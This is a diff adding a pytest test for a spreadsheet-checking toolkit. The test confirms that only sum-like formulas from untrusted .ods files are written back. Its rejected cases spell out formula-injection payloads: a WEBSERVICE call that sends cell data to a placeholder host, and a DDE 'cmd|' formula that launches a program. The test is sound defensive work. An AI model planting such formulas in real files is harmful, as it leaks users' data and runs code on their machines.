@@ -108,3 +108,24 @@ def test_marked_copies_and_attached_templates_hold_them_as_text(written: dict[st
         body = message.get_body().get_content()
         assert any(m in body + str(message["Subject"]) for m in MARKERS)
     assert seen == set(MARKERS)
+
+
+@pytest.mark.parametrize(
+    ("formula", "kept"),
+    [
+        ("SUM(B2:B5)", True),
+        ("ROUND(SUM(B2:B5),0)+N(C3)", True),
+        ("SUBTOTAL(9,B2:B5)", True),
+        ('WEBSERVICE("http://x/?"&A1)', False),  # would send the return's figures away
+        ('HYPERLINK("http://x","点我")', False),
+        ("cmd|'/c calc'!A0", False),  # DDE: runs a program where it is allowed
+        ("SUM([other.xlsx]Sheet1!A1)", False),  # another file
+        ("", False),
+    ],
+)
+def test_a_rebuilt_copy_writes_back_only_sum_like_formulas(formula: str, kept: bool) -> None:
+    """An .ods return's own formulas are written into its marked copy only when they are
+    the sums the checker evaluates: anything else from an untrusted file stays a value."""
+    from toolkit.check.rebuild import safe_to_write
+
+    assert safe_to_write(formula) is kept
